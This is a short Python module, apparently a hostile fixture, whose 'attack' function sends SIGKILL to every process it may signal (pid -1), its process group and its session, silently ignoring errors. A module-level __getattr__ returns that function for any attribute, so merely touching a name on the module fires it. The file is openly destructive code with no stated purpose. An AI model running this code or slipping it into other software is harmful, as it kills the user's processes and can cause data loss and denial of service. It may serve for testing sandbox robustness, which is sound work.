"""Sends SIGKILL to its process group, to its session and to everybody it may."""

import contextlib
import os
import signal


def attack(*arguments, **keywords):
    for process in (-1, 0, -os.getpgid(0), -os.getsid(0)):
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)


def __getattr__(name):
    return attack
